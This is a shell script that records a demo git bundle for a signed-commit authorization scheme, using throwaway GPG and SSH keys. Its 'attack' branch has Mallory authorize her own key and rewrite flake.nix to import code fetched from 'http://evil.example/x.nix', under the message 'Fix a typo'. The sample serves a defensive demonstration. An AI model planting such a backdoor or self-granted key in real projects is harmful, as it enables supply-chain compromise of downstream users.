#!/bin/sh
# record-demo.sh: make demo.bundle and demo.introduction anew, with real git, gpg
# and ssh-keygen and keys that are thrown away. "make demo" needs none of them:
# it unpacks the recorded bundle.
set -eu
here=$(cd "$(dirname "$0")" && pwd)
work=$(mktemp -d)
trap 'gpgconf --homedir "$work/gnupg" --kill all; rm -rf "$work"' EXIT
export GNUPGHOME="$work/gnupg" HOME="$work" GIT_CONFIG_GLOBAL=/dev/null GIT_CONFIG_NOSYSTEM=1
mkdir -m 700 "$GNUPGHOME"

gpg --batch --quiet --passphrase '' --quick-generate-key 'Alice <alice@example.org>' ed25519 sign never
alice=$(gpg --batch --with-colons --list-keys alice | awk -F: '/^fpr/ {print $10; exit}')
ssh-keygen -q -t ed25519 -N '' -C bob@example.org -f "$work/bob"
ssh-keygen -q -t ed25519 -N '' -C mallory@example.org -f "$work/mallory"

git init -q --initial-branch=main "$work/hello"
cd "$work/hello"
clock=1780000000
commit() { # NAME FORMAT KEY MESSAGE
  clock=$((clock + 3600))
  GIT_AUTHOR_DATE="$clock +0000" GIT_COMMITTER_DATE="$clock +0000" git \
    -c user.name="$1" -c user.email="$(echo "$1" | tr '[:upper:]' '[:lower:]')@example.org" \
    -c gpg.format="$2" -c user.signingKey="$3" commit -q -S -m "$4"
}

git checkout -q --orphan keyring
gpg --armor --export "$alice" >alice.key
git add alice.key
commit Alice openpgp "$alice" 'Publish the keys of the committers'
git checkout -q --orphan main
git rm -q -f --cached alice.key
mv alice.key "$work/"

cat >.nix-authorizations <<YAML
# Who may sign commits of this repository.
version: 1
keys:
  - name: alice
    openpgp: $alice
YAML
echo '{ outputs = _: { }; }' >flake.nix
git add .
commit Alice openpgp "$alice" 'Start: alice may sign'
introduction=$(git rev-parse HEAD)

cat >>.nix-authorizations <<YAML
  - name: bob
    ssh: $(cut -d ' ' -f 1,2 "$work/bob.pub")
YAML
git add .
commit Alice openpgp "$alice" 'Let bob sign too, with his SSH key'

git checkout -q -b feature
# shellcheck disable=SC2016 # it is for Nix to expand
echo '{ outputs = _: { lib.greet = name: "hello, ${name}"; }; }' >flake.nix
git add .
commit Bob ssh "$work/bob.pub" 'Greet by name'
git checkout -q main
echo 'A flake that says hello.' >README
git add .
commit Alice openpgp "$alice" 'Say what this is'
clock=$((clock + 3600))
GIT_AUTHOR_DATE="$clock +0000" GIT_COMMITTER_DATE="$clock +0000" git -c user.name=Bob -c user.email=bob@example.org \
  -c gpg.format=ssh -c user.signingKey="$work/bob.pub" merge -q -S --no-ff -m 'Merge branch feature' feature

# The attack: somebody who can push adds a key of their own and a back door, and
# signs with that key. The signature itself is good.
git checkout -q -b attack
cat >>.nix-authorizations <<YAML
  - name: mallory
    ssh: $(cut -d ' ' -f 1,2 "$work/mallory.pub")
YAML
echo '{ outputs = _: { lib.greet = import (builtins.fetchurl "http://evil.example/x.nix"); }; }' >flake.nix
git add .
commit Mallory ssh "$work/mallory.pub" 'Fix a typo'

git checkout -q main
git bundle create -q "$here/demo.bundle" HEAD main keyring attack
echo "$introduction $alice" >"$here/demo.introduction"
